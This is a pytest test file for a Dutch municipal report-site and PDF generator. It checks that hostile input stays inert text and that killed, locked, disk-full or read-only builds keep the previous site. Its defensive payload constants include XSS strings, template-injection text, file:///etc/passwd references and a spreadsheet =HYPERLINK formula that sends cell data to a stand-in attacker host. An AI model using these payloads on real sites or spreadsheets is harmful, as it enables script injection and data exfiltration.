"""Builds under attack and under faults: hostile text stays text on every page and in the PDF,
one build at a time, and a killed build, a full disk or a read-only site/ keep the previous site.

Builds are expensive, so this file builds only where building is the point: one build of
Druten with every kind of hostile text, and partial builds started from a copy of the
shared `built` region and killed halfway.
"""

from __future__ import annotations

import contextlib
import errno
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from html.parser import HTMLParser
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from generator.render.templating.search_path import PACKAGE_TEMPLATES
from tests.conftest import REPO, Region, free_port, pdf_pages, start_serve
from tests.processes import descendants

D = "gemeenten/druten.yaml"
WORD = ("Werkbedrijfsdienstverlening" * 3704)[:100_000]  # one word of 100.000 characters
TITEL = "<script>alert('titel')</script> {{ 7*7 }} {% if true %}ja{% endif %} \u202eLEZEN\u202c"
DOELGROEP = '<img src=x onerror=alert(1)> [klik](javascript:alert(1)) {: onclick="alert(1)" } *nadruk*'
OMSCHRIJVING = '<img src="file:///etc/passwd"> ![beeld](file:///etc/passwd) nul\u200bbreed ' + WORD
AFSPRAAK = '<a href="javascript:alert(1)">Klik</a> [link](javascript:alert(1)){: .knop }'
TOELICHTING = '=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik hier")'


def _hostile_druten(region: Region) -> str:
    """Druten's file with hostile text in every kind of field; returns the period of the toelichting."""
    yaml = YAML()
    yaml.width = 4096
    path = region.path(D)
    data = yaml.load(path.read_text(encoding="utf-8"))
    maatwerk = data["maatwerk"][0]
    maatwerk["titel"], maatwerk["doelgroep"], maatwerk["omschrijving"] = TITEL, DOELGROEP, OMSCHRIJVING
    data["dvo"].setdefault("afspraken_gemeente", []).append(AFSPRAAK)
    kpi = next(p for p in data["prestatie_indicatoren"] if p.get("realisaties"))
    periode = list(kpi["realisaties"])[-1]
    kpi.setdefault("toelichtingen", {})[periode] = {"tekst": TOELICHTING}
    with path.open("w", encoding="utf-8") as fh:
        yaml.dump(data, fh)
    return str(periode)


class _Page(HTMLParser):
    """Text, attributes and script bodies of a page, as a browser would see them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.attrs: list[tuple[str, str, str]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.attrs += [(tag, name, value or "") for name, value in attrs]
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        (self.scripts if self._in_script else self.text).append(data)


def _page(path: Path) -> _Page:
    page = _Page()
    page.feed(path.read_text(encoding="utf-8"))
    return page


def _pdf_text(path: Path) -> str:
    import pypdf

    # WeasyPrint writes the 100.000-character word as one array of glyphs, beyond the
    # safety limit pypdf 7 has for arrays; raise it for this document.
    raise_limit = getattr(pypdf, "apply_configuration", None)
    with raise_limit(array_maximum_element_count=1_000_000) if raise_limit else contextlib.nullcontext():
        return " ".join(pdf_pages(path))


def test_hostile_text_stays_text_on_every_page_and_the_pdf_still_renders(region: Region, fetched: list[str]):
    from click.testing import CliRunner

    from generator.cli import main

    periode = _hostile_druten(region)
    assert region.dvo("validate").exit_code == 0
    served = fetched
    result = CliRunner().invoke(main, ["build", "--gemeente", "druten", "--jobs", "1", "--root", str(region.root)])
    assert result.exit_code == 0, result.output
    site = region.path("site")
    druten = site / "gemeenten" / "druten"  # reading copies are site pages (see publish/pages.py)
    pages = [druten / "dvo" / "index.html", druten / "index.html", druten / f"rapport-{periode}" / "index.html"]
    for path in pages:
        page = _page(path)
        text = "".join(page.text)
        for tag, name, value in page.attrs:
            assert not name.startswith("on"), (path.name, tag, name, value)
            assert not value.strip().lower().startswith(("javascript:", "file:")), (path.name, tag, name, value)
        assert not any("alert" in s for s in page.scripts), path.name
        assert "</script> 49" not in text  # {{ 7*7 }} is never evaluated
    dvo = "".join(_page(pages[0]).text)
    for fragment in (TITEL, DOELGROEP, OMSCHRIJVING, AFSPRAAK):
        assert fragment in dvo
    gemeente_page = "".join(_page(pages[1]).text)
    assert "<script>alert('titel')</script> {{ 7*7 }} {% if true %}ja{% endif %}" in gemeente_page
    assert '[klik](javascript:alert(1)) {: onclick="alert(1)" } *nadruk*' in gemeente_page
    assert "\u202eLEZEN\u202c" in gemeente_page
    assert TOELICHTING in "".join(_page(pages[2]).text)
    # The PDF renders: every page there, the text as text, nothing fetched but the own assets.
    pdf_text = _pdf_text(site / "pdf" / "dvo-druten.pdf")
    assert "<script>alert('titel')</script> {{ 7*7 }}" in pdf_text and "Werkbedrijfsdienstverlening" in pdf_text
    static = (PACKAGE_TEMPLATES / "static").as_uri()
    assert served and all(url.startswith(static) for url in served), sorted(set(served))
    # Open data: the formula is text a spreadsheet will not run; JSON keeps it as it is.
    csv_text = (site / "pdf" / "kpi-druten.csv").read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""http://aanvaller.example/?d=""&A1,""Klik hier"")"' in csv_text
    assert ",=HYPERLINK" not in csv_text and ',"=HYPERLINK' not in csv_text
    rows = json.loads((site / "pdf" / "kpi-druten.json").read_text(encoding="utf-8"))
    assert TOELICHTING in [r["toelichting"] for r in rows]


# --- One build at a time ------------------------------------------------------------------


def test_a_second_build_is_refused_while_one_runs_and_writes_nothing(region: Region):
    from generator.publish.lock import build_lock

    staging = region.path(".staging")
    with build_lock(staging, wait=False):
        before = sorted(p.relative_to(region.root).as_posix() for p in region.root.rglob("*"))
        result = region.dvo("build", "--gemeente", "druten", "--jobs", "1")
        assert sorted(p.relative_to(region.root).as_posix() for p in region.root.rglob("*")) == before
    assert result.exit_code == 1
    assert result.output.splitlines()[-1] == (
        f"Fout: er loopt al een bouw van deze regio-repository (proces {os.getpid()}); "
        "wacht tot die klaar is en probeer het dan opnieuw. Er is niets geschreven."
    )


HOLD = """
import os, signal, sys, time
from pathlib import Path
from generator.publish.lock import build_lock
with build_lock(Path(sys.argv[1]), wait=False):
    print("vast", flush=True)
    if sys.argv[2] == "kill":
        os.kill(os.getpid(), signal.SIGKILL)
    time.sleep(float(sys.argv[2]))
"""


def _holder(staging: Path, how: str) -> subprocess.Popen:
    proc = subprocess.Popen(
        [sys.executable, "-c", HOLD, str(staging), how], stdout=subprocess.PIPE, text=True, cwd=REPO
    )
    assert proc.stdout.readline().strip() == "vast"
    return proc


def test_a_lock_left_by_a_killed_build_is_detected_and_taken_over(tmp_path: Path):
    from generator.publish.lock import build_lock

    proc = _holder(tmp_path, "kill")
    assert proc.wait(timeout=30) == -signal.SIGKILL
    assert (tmp_path / "bouw.lock").read_text().strip() == str(proc.pid)  # the killed build's mark
    with build_lock(tmp_path, wait=False) as killed:
        assert killed == proc.pid
    assert (tmp_path / "bouw.lock").read_text() == ""  # released cleanly
    with build_lock(tmp_path, wait=False) as killed:
        assert killed is None


def test_a_preview_rebuild_waits_for_the_other_build(tmp_path: Path):
    from generator.publish.lock import BuildBusy, build_lock

    proc = _holder(tmp_path, "2")  # holds the lock for 2 s after saying so
    waited_for = []
    try:
        start = time.monotonic()
        with pytest.raises(BuildBusy), build_lock(tmp_path, wait=False):
            pass
        with build_lock(tmp_path, wait=True, on_wait=waited_for.append) as killed:
            waited = time.monotonic() - start
            assert killed is None  # the other build ended normally
    finally:
        proc.wait(timeout=30)
    assert waited_for == [proc.pid] and waited > 1.5


class _Output:
    """The output lines of a running process, read by a thread, so a test can wait for one."""

    def __init__(self, proc: subprocess.Popen):
        self.lines: list[str] = []
        self._thread = threading.Thread(target=self._read, args=(proc,), daemon=True)
        self._thread.start()

    def _read(self, proc: subprocess.Popen) -> None:
        for line in proc.stdout:
            self.lines.append(line.rstrip("\n"))

    def wait_for(self, fragment: str, seconds: float = 180, after: int = 0) -> int:
        """Index of the first line from `after` on that holds `fragment`."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            for i in range(after, len(self.lines)):
                if fragment in self.lines[i]:
                    return i
            time.sleep(0.2)
        pytest.fail(f"{fragment!r} not printed within {seconds} s; output:\n" + "\n".join(self.lines))


HOLD_UNTIL_TOLD = """
import sys
from pathlib import Path
from generator.publish.lock import build_lock
with build_lock(Path(sys.argv[1]), wait=False):
    print("vast", flush=True)
    sys.stdin.readline()
"""


def _other_build(staging: Path) -> subprocess.Popen:
    """Another build of the repository: holds its lock until told to finish (`_finish`)."""
    proc = subprocess.Popen(
        [sys.executable, "-c", HOLD_UNTIL_TOLD, str(staging)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        cwd=REPO,
    )
    assert proc.stdout.readline().strip() == "vast"
    return proc


def _finish(proc: subprocess.Popen) -> None:
    if proc.poll() is None:
        proc.stdin.write("klaar\n")
        proc.stdin.close()
    assert proc.wait(timeout=30) == 0


def test_dvo_serve_waits_for_another_build_instead_of_refusing(warm: Region):
    """While another build holds the repository's lock, the preview's first build and a rebuild
    say that they wait, and build and serve once it is done; none is refused."""
    port = free_port()
    other = _other_build(warm.root / ".staging")
    proc = start_serve(warm.root, port, jobs=1, cwd=REPO)
    out = _Output(proc)
    try:
        waits = out.wait_for(f"Wacht op een andere bouw van deze regio (proces {other.pid}) ...")
        _finish(other)
        ready = out.wait_for("Voorbeeld op http://127.0.0.1:", after=waits)
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/gemeenten/druten/", timeout=10) as response:
            assert "Gemeente Druten" in response.read().decode("utf-8")
        # A change while another build runs: the rebuild waits for it too, then finishes.
        time.sleep(1)  # serve notes the files' times just after it starts serving; change them after that
        other = _other_build(warm.root / ".staging")
        later = time.time() + 5
        os.utime(warm.path(D), (later, later))
        changed = out.wait_for("Gewijzigd: gemeenten/druten.yaml; opnieuw bouwen.", after=ready)
        waits = out.wait_for(f"Wacht op een andere bouw van deze regio (proces {other.pid}) ...", after=changed)
        assert not any("Klaar" in line for line in out.lines[waits:])  # still waiting, not refused
        _finish(other)
        out.wait_for("Pagina's klaar; de browser laadt de pagina opnieuw.", after=waits)
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/__versie", timeout=10) as response:
            assert int(response.read()) >= 1  # open tabs reload (after Druten's pages and after the rest)
        assert not [line for line in out.lines if "er loopt al een bouw" in line or "mislukt" in line], out.lines
    finally:
        proc.terminate()
        proc.wait(timeout=30)
        if other.poll() is None:
            other.kill()
            other.wait(timeout=30)


# --- Faults: killed builds, full disk, read-only site/ ------------------------------------


def _copy_built(built: Path, target: Path) -> Path:
    shutil.copytree(built, target, symlinks=True)
    return target


def _site_is_complete(site: Path, *, open_pdfs: bool = True) -> bytes:
    """Every file of the manifest is there with its sha256 (and every PDF opens); returns the manifest.

    Where the manifest must equal the one before, the bytes are the same as then, so
    opening every PDF again (`open_pdfs`) only matters after a kill."""
    from pypdf import PdfReader

    manifest = (site / "manifest.json").read_bytes()
    entries = json.loads(manifest)["bestanden"]
    assert len(entries) > 100
    for entry in entries:
        data = (site / entry["pad"]).read_bytes()
        assert hashlib.sha256(data).hexdigest() == entry["sha256"], entry["pad"]
        if open_pdfs and entry["pad"].endswith(".pdf"):
            assert data.rstrip().endswith(b"%%EOF") and len(PdfReader(str(site / entry["pad"])).pages) > 0
    assert not [p for p in site.rglob("*") if p.name.endswith(".tmp")]
    return manifest


def _start_druten_build(root: Path, **env: str) -> subprocess.Popen:
    """`dvo build --gemeente druten` in a session of its own, its progress in a pipe.
    The data is unchanged, so an incremental build would reuse every document and skip
    mkdocs: without the render cache it renders Druten's documents and builds the site
    again (to the same bytes), which is the work to interrupt."""
    (root / ".staging" / "cache" / "documenten.json").unlink()
    return subprocess.Popen(
        [sys.executable, "-m", "generator", "build", "--gemeente", "druten", "--jobs", "2", "--root", str(root)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        cwd=REPO,
        env={**os.environ, "CI": "1", **env},
        start_new_session=True,
    )


def _kill_build_at(root: Path, marker: str, delay: float = 0.0, *, appears: Path | None = None) -> None:
    """Start `dvo build --gemeente druten`, SIGKILL it and its workers `delay` s after `marker`
    appears in its output, or as soon as after it the path `appears` exists. Killed so,
    workers leave WeasyPrint's font folders behind: in a TMPDIR of the test's own."""
    temp = Path(tempfile.mkdtemp(prefix="dvo-", dir="/tmp"))  # short: the fork server's socket is in it
    proc = _start_druten_build(root, TMPDIR=str(temp))
    try:
        deadline = time.time() + 300
        for line in proc.stderr:
            if marker in line:
                break
            assert time.time() < deadline
        else:
            pytest.fail(f"de bouw eindigde voordat '{marker}' verscheen")
        time.sleep(delay)
        while appears is not None and not appears.exists() and proc.poll() is None:
            time.sleep(0.005)
        assert proc.poll() is None, "de bouw was al klaar; niets om af te breken"
    finally:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait(timeout=30)
        shutil.rmtree(temp, ignore_errors=True)
    assert proc.returncode == -signal.SIGKILL


def test_a_build_killed_while_pages_are_built_leaves_the_previous_site_complete(built: Path, tmp_path: Path):
    root = _copy_built(built, tmp_path / "regio")
    before = _site_is_complete(root / "site", open_pdfs=False)
    # mkdocs is writing .staging/site (a fixed delay once met a build that was done already)
    _kill_build_at(root, "Pagina's schrijven", appears=root / ".staging" / "site")
    assert _site_is_complete(root / "site") == before


def test_a_build_killed_while_documents_are_made_keeps_the_site_and_the_next_build_cleans_up(
    built: Path, tmp_path: Path
):
    root = _copy_built(built, tmp_path / "regio")
    before = _site_is_complete(root / "site", open_pdfs=False)
    _kill_build_at(root, "[1/", 0.0)  # the workers are rendering and writing PDFs
    assert _site_is_complete(root / "site") == before
    lock = (root / ".staging" / "bouw.lock").read_text().strip()
    assert lock.isdigit()  # the killed build's mark
    proc = subprocess.run(
        [sys.executable, "-m", "generator", "build", "--gemeente", "druten", "--jobs", "2", "--root", str(root)],
        capture_output=True,
        text=True,
        cwd=REPO,
        env={**os.environ, "CI": "1"},
        timeout=600,
    )
    assert proc.returncode == 0, proc.stderr
    assert f"Een eerdere bouw (proces {lock}) is afgebroken; wat die achterliet, is opgeruimd." in proc.stderr
    assert not list((root / ".staging").rglob("*.tmp"))
    assert _site_is_complete(root / "site") == before  # same input, same bytes


def test_a_build_killed_between_the_two_renames_gets_its_site_back(region: Region):
    """The previous site set aside in .staging/site-vorige is put back before the next build starts."""
    from generator.load.project import load_project
    from generator.publish.transaction import recover as _recover

    old = region.path(".staging/site-vorige")
    old.mkdir(parents=True)
    (old / "index.html").write_text("vorige site", encoding="utf-8")
    (region.path(".staging") / ".dvo-druten.pdf.abc123.tmp").write_bytes(b"half")
    _recover(load_project(region.root))
    assert region.read("site/index.html") == "vorige site" and not old.exists()
    assert not list(region.path(".staging").glob("*.tmp"))


def test_a_failed_swap_puts_the_previous_site_back(tmp_path: Path, monkeypatch):
    from generator.publish.transaction import swap as _swap

    site, new, old = tmp_path / "site", tmp_path / "nieuw", tmp_path / "vorige"
    site.mkdir()
    (site / "index.html").write_text("vorige site", encoding="utf-8")
    new.mkdir()
    real_rename = Path.rename

    def rename(self, target):
        if self == new:
            raise OSError(errno.EXDEV, "Invalid cross-device link", str(self))
        return real_rename(self, target)

    monkeypatch.setattr(Path, "rename", rename)
    with pytest.raises(OSError):
        _swap(new, site, old)
    assert (site / "index.html").read_text(encoding="utf-8") == "vorige site" and not old.exists()


def test_a_full_disk_gives_a_clear_error_and_keeps_the_previous_site(built: Path, tmp_path: Path, monkeypatch):
    """ENOSPC from the first document written: Dutch message, exit 1, site/ byte for byte as it was."""
    from click.testing import CliRunner

    import generator.util.atomic as atomic
    from generator.cli import main

    root = _copy_built(built, tmp_path / "regio")
    before = _site_is_complete(root / "site", open_pdfs=False)
    real = atomic._staged

    def full(path: Path, data: bytes) -> Path:
        if path.suffix == ".pdf":
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))
        return real(path, data)

    target = root / ".staging" / "docs" / "pdf" / "dvo-druten.pdf"
    target.unlink()  # so the incremental build has this document to write
    monkeypatch.setattr(atomic, "_staged", full)
    result = CliRunner().invoke(main, ["build", "--gemeente", "druten", "--jobs", "1", "--root", str(root)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert result.output.splitlines()[-1] == (
        f"Fout: schrijven mislukt: {target}: de schijf is vol. De site is niet gebouwd; {root / 'site'} is ongewijzigd."
    )
    assert _site_is_complete(root / "site", open_pdfs=False) == before


def test_a_read_only_site_folder_is_refused_before_anything_is_built(built: Path, tmp_path: Path):
    root = _copy_built(built, tmp_path / "regio")
    before = _site_is_complete(root / "site", open_pdfs=False)
    staging = sorted(p.relative_to(root).as_posix() for p in (root / ".staging").rglob("*"))
    (root / "site").chmod(0o555)
    try:
        proc = subprocess.run(
            [sys.executable, "-m", "generator", "build", "--gemeente", "druten", "--root", str(root)],
            capture_output=True,
            text=True,
            cwd=REPO,
            timeout=300,
        )
    finally:
        (root / "site").chmod(0o755)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert proc.stderr.splitlines()[-1] == (
        "Fout: site/ is alleen-lezen; maak de map schrijfbaar om de site te bouwen. De site is niet gebouwd; "
        f"{root / 'site'} is ongewijzigd."
    )
    assert _site_is_complete(root / "site", open_pdfs=False) == before
    assert sorted(p.relative_to(root).as_posix() for p in (root / ".staging").rglob("*")) == staging


def _running(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"  # a zombie has ended; only its parent's bookkeeping is left


def test_a_stopped_build_stops_its_workers_and_leaves_no_font_folders(built: Path, tmp_path: Path):
    """SIGTERM to the build process alone (as `kill PID` or a stopped `dvo serve`): its PDF
    workers end with it, and WeasyPrint's temporary font folders are removed."""
    root = _copy_built(built, tmp_path / "regio")
    # A TMPDIR of its own, short: the fork server's socket lives in it (at most 107 bytes)
    temp = Path(tempfile.mkdtemp(prefix="dvo-", dir="/tmp"))
    proc = _start_druten_build(root, TMPDIR=str(temp))
    try:
        assert proc.stderr is not None
        for line in proc.stderr:
            if line.startswith("Documenten:"):  # the PDFs are about to be made
                break
        deadline = time.time() + 120
        workers = descendants(proc.pid)
        # multiprocessing's resource tracker and fork server, then the two workers
        while len(workers) < 4 and proc.poll() is None and time.time() < deadline:
            time.sleep(0.05)
            workers = descendants(proc.pid)
        assert len(workers) >= 4 and proc.poll() is None, f"geen PDF-werkers gezien: {proc.stderr.read()}"
        proc.terminate()
        proc.wait(timeout=30)
        deadline = time.time() + 30
        while any(_running(w) for w in workers) and time.time() < deadline:
            time.sleep(0.1)
        assert not [w for w in workers if _running(w)]
        assert not list(temp.glob("weasyprint-*"))
    finally:
        os.killpg(proc.pid, signal.SIGKILL)
        shutil.rmtree(temp, ignore_errors=True)
